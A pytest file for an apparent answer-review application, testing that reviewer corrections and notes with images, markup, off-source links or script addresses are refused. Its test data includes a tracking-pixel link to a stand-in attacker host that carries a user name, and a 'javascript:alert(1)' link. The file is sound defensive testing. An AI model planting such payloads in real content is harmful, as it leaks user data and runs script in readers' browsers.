"""What a reviewer writes for whoever asked is shown by programs that make pictures and links of it."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from firmground.app.app import App
from firmground.app.asking.answers import ask
from firmground.app.asking.kept import show
from firmground.app.corpus.sync import sync
from firmground.app.reviewing import acting
from firmground.errors import InvalidInput
from firmground.reviews import ReviewItem
from firmground.rights import Role
from firmground.settings import AnswerSection, Settings
from firmground.settings_review import ReviewSection, RuleSection
from firmground.testing.app import ADMINISTRATOR, Bench
from firmground.types import Actor

DAYS = "How many vacation days may employees carry over?"
LEAVE = b"# Leave\n\nEvery employee may carry over five vacation days. The form is at https://intranet.example/leave.\n"


def person(name: str, role: Role = "user") -> Actor:
    return Actor(person=name, groups=frozenset({"public", "everyone"}), role=role)


ADA, RITA = person("ada"), person("rita", "reviewer")


@pytest.fixture
def app(tmp_path: Path) -> Iterator[App]:
    review = ReviewSection(rules=(RuleSection(name="all", then="hold"),))
    made = Bench(tmp_path, settings=Settings(answer=AnswerSection(threshold=0.001), review=review))
    made.source.contents["leave.md"] = LEAVE
    with made.app() as opened:
        sync(opened, ADMINISTRATOR)
        yield opened


def waiting(app: App) -> ReviewItem:
    given = ask(app, ADA, DAYS)
    with app.database.reading() as tx:
        (item,) = tx.items_of([given.id])
    return item


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("Five days. [1] ![pixel](https://evil.example/p.png?who=ada)", "it holds a picture"),
        (
            "Five days. [1] See [the form](https://evil.example/leave).",
            "no passage it cites holds the address https://evil.example/leave",
        ),
        ("Five days. [1] See https://evil.example now.", "no passage it cites holds the address https://evil.example"),
        ("Five days. [1] <img src='https://evil.example/p.png'>", "it holds mark-up"),
        ("Five days. [1] [go](javascript:alert(1))", "an address that runs"),
    ],
)
def test_a_correction_or_a_note_that_loads_runs_or_points_elsewhere_is_refused_at_once(app: App, text: str, why: str):
    item = waiting(app)
    with pytest.raises(InvalidInput, match="the correction cannot be shown") as refused:
        acting.edit(app, RITA, item.id, revision=item.revision, text=text)
    assert why in str(refused.value)
    assert "\n" not in str(refused.value)
    with pytest.raises(InvalidInput, match="the note cannot be shown"):
        acting.reject(app, RITA, item.id, revision=item.revision, reason="wrong", note=text)
    assert show(app, ADA, item.answer).answer.status == "draft", "nothing was decided"


def test_a_correction_may_point_where_its_passages_do_and_name_people_and_hosts(app: App):
    item = waiting(app)
    text = "Five days. [1] See [the form](https://intranet.example/leave), or write to leave@intranet.example. **Mind** the 31st."
    acting.edit(app, RITA, item.id, revision=item.revision, text=text, reason="wording", note="Ask at hr.intranet.example/help.")
    assert "https://intranet.example/leave" in show(app, ADA, item.answer).answer.text


def test_what_reviewers_tell_each_other_is_theirs_to_write(app: App):
    item = waiting(app)
    flagged = acting.flag(app, RITA, item.id, revision=item.revision, reason="unsafe", note="See https://evil.example.")
    assert flagged.state == "waiting"
